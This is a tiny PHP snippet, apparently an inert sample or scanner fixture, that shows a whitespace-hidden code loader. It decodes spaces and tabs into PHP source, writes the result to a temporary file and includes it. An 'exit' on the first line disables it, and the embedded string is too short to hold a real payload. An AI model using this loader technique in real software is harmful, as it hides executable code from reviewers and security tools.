<?php exit; /* inert */ 
$w = " 	 			  	   	 	   	";
$o = ''; foreach (str_split(strtr($w, " \t", '01'), 8) as $b) { $o .= chr(bindec($b)); }
$t = tmpfile(); fwrite($t, "<?php " . $o); include stream_get_meta_data($t)['uri'];
